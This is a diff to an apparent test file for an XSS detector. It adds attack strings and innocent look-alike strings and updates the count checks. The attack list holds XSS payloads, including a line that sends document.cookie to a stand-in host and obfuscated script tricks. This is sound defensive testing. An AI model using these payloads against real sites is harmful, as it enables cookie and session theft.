@@ -46,6 +46,10 @@ const ATTACKS: readonly (readonly [string, string])[] = [
   ["script-code", "[].constructor.constructor('return 1')()"],
   ["script-code", "location.href='//h.example/?'+document.cookie"],
   ["punctuation-code", "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]]"],
+  ["numeric-link", "<a href=http://0x7f.1/>x</a>"],
+  ["obsolete-element", "<marquee>hi"],
+  ["spaced-tag", "< script >go()< /script >"],
+  ["probe", '\'";!--"<q>=&{()}'],
   ["document-url", "data:text/html,<b>x"],
 ];
 
@@ -80,6 +84,10 @@ const INNOCENT: readonly string[] = [
   "rock 'n' roll; top [ten] (2026)",
   "See <https://docs.example/on=off> for more",
   'pr_shop">MamaBear</a>',
+  "query Q($id: ID!) { alert(id: $id) { name } }",
+  "fix(alert): don't show it twice",
+  "/collections/all?sort=price&filter.tag=alert",
+  "<script@mail.example>",
 ];
 
 for (const [rule, text] of ATTACKS) {
@@ -90,6 +98,6 @@ for (const [rule, text] of ATTACKS) {
 
 Deno.test("xss passes innocent texts", () => {
   for (const text of INNOCENT) assert.equal(pointsIn(xss, text), 0, `${text}: ${rulesIn(xss, text)}`);
-  assert.equal(INNOCENT.length, 29);
-  assert.equal(ATTACKS.length, 43);
+  assert.equal(INNOCENT.length, 33);
+  assert.equal(ATTACKS.length, 47);
 });
